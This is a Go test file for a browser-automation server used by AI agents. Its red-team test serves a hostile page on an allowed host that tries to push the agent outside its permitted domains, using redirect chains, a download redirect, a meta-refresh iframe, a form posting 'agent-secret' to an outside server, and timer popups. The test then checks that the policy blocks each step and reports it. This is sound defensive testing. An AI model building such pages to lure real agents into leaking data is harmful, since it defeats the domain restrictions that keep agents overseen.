package agent

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/livetab/livetab/internal/browsertest"
	"github.com/livetab/livetab/policy"
)

// forbiddenLog is a server on 127.0.0.2 (outside the agent's domains)
// that records every request it gets.
type forbiddenLog struct {
	*httptest.Server
	mu   sync.Mutex
	reqs []string
}

func (f *forbiddenLog) got() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.reqs...)
}

func newForbidden(t *testing.T) *forbiddenLog {
	l, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	f := &forbiddenLog{}
	f.Server = &httptest.Server{Listener: l, Config: &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/favicon.ico" {
			http.NotFound(w, r)
			return
		}
		r.ParseForm()
		f.mu.Lock()
		f.reqs = append(f.reqs, r.Method+" "+r.URL.String()+" form="+r.PostForm.Encode())
		f.mu.Unlock()
		if r.URL.Path == "/secret.bin" {
			w.Header().Set("Content-Type", "application/octet-stream")
			w.Header().Set("Content-Disposition", `attachment; filename="secret.bin"`)
			fmt.Fprint(w, "FORBIDDEN-BYTES")
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<!doctype html><title>FORBIDDEN-TITLE</title><p>FORBIDDEN-BODY</p>`)
	})}}
	f.Start()
	t.Cleanup(f.Close)
	return f
}

type escapeEnv struct {
	c     *client
	s     *Server
	site  string
	bad   *forbiddenLog
	dlDir string
}

func startEscape(t *testing.T, ctx context.Context) *escapeEnv {
	env := browsertest.Start(t, browsertest.Options{DebugPort: true})
	bad := newForbidden(t)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/r1":
			http.Redirect(w, r, "/r2", http.StatusFound)
			return
		case "/r2":
			http.Redirect(w, r, bad.URL+"/secret.bin", http.StatusFound)
			return
		case "/dlr":
			// a download from the allowed site, whose own redirect goes out
			w.Header().Set("Content-Disposition", `attachment; filename="x.bin"`)
			http.Redirect(w, r, bad.URL+"/secret.bin", http.StatusFound)
			return
		case "/meta":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><meta http-equiv="refresh" content="0;url=%s/frame-meta">inner`, bad.URL)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>Hostile</title>
<a id="dl" href="/r1">Get the report</a>
<a id="dl2" href="/r1" download>Save the report</a>
<form id="f" method="post" action="%[1]s/post" target="_blank"><input name="q" value="agent-secret"><button id="send">Send</button></form>
<button id="later" onclick="setTimeout(()=>{window.open('%[1]s/timer-popup','_blank')},1500);setTimeout(()=>{location.href='%[1]s/timer-nav'},2500)">Later</button>
<button id="framebtn" onclick="var f=document.createElement('iframe');f.src='/meta';document.body.appendChild(f)">Frame</button>
`, bad.URL)
	}))
	t.Cleanup(site.Close)
	dlDir := t.TempDir()
	pol := &policy.Policy{AllowDomains: []string{"127.0.0.1"}, DownloadDir: dlDir}
	s, err := New(Options{Browser: env.Allocator(t), Policy: pol, EmulateViewport: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	ct, stt := mcp.NewInMemoryTransports()
	if _, err := s.MCPServer().Connect(ctx, stt, nil); err != nil {
		t.Fatal(err)
	}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "livetab-test", Version: "v0"}, nil).Connect(ctx, ct, nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.Close() })
	c := &client{cs}
	c.ok(t, "browser_navigate", map[string]any{"url": site.URL + "/"})
	return &escapeEnv{c: c, s: s, site: site.URL, bad: bad, dlDir: dlDir}
}

func (e *escapeEnv) check(t *testing.T, what string) {
	t.Helper()
	if g := e.bad.got(); len(g) > 0 {
		t.Errorf("%s: the forbidden server 127.0.0.2 got %d request(s): %q", what, len(g), g)
	}
	ents, _ := os.ReadDir(e.dlDir)
	for _, en := range ents {
		b, _ := os.ReadFile(e.dlDir + "/" + en.Name())
		if strings.Contains(string(b), "FORBIDDEN") {
			t.Errorf("%s: a file from the forbidden server landed in the download directory: %s", what, en.Name())
		}
	}
	list := resultText(e.c.call(t, "browser_tabs", map[string]any{"action": "list"}))
	if strings.Contains(list, "FORBIDDEN") {
		t.Errorf("%s: the agent's tab list shows the forbidden page:\n%s", what, list)
	}
	for _, tool := range []string{"browser_read", "browser_snapshot"} {
		if txt := resultText(e.c.call(t, tool, nil)); strings.Contains(txt, "FORBIDDEN-BODY") {
			t.Errorf("%s: %s read the forbidden page:\n%s", what, tool, txt)
		}
	}
}

// An agent on a hostile page of an allowed host is told plainly when the
// policy stopped something: browser_capture of an allowed URL that
// redirects outside the domains failed with a bare "Failed to fetch", and
// a popup a timer opened outside the domains was listed as any tab of the
// agent's, with an empty title, though its page never loads and the agent
// cannot switch to it. Nothing reaches the outside server.
func TestRedTeamOutsideTheDomainsSaysSo(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	e := startEscape(t, ctx)
	res := e.c.call(t, "browser_capture", map[string]any{"url": e.site + "/r1"})
	if txt := resultText(res); !res.IsError || !strings.Contains(txt, "allowed domains") {
		t.Errorf("browser_capture of a URL that redirects outside the domains: %s", txt)
	}
	res = e.c.call(t, "browser_click", map[string]any{"selector": "#later"})
	t.Logf("click later: err=%v %s", res.IsError, resultText(res))
	// The popup opens at 1.5 s, the navigation at 2.5 s; under load the
	// popup's address comes later.
	time.Sleep(3 * time.Second)
	var list string
	for deadline := time.Now().Add(15 * time.Second); ; time.Sleep(500 * time.Millisecond) {
		list = resultText(e.c.call(t, "browser_tabs", map[string]any{"action": "list"}))
		if strings.Contains(list, "timer-popup") || time.Now().After(deadline) {
			break
		}
	}
	t.Logf("tabs: %s", list)
	if !strings.Contains(list, "timer-popup") || !strings.Contains(list, "blocked: its address is outside the policy") {
		t.Errorf("the popup the page opened outside the domains is not listed as blocked:\n%s", list)
	}
	e.check(t, "a redirecting capture, and a popup and a navigation from a timer")
}
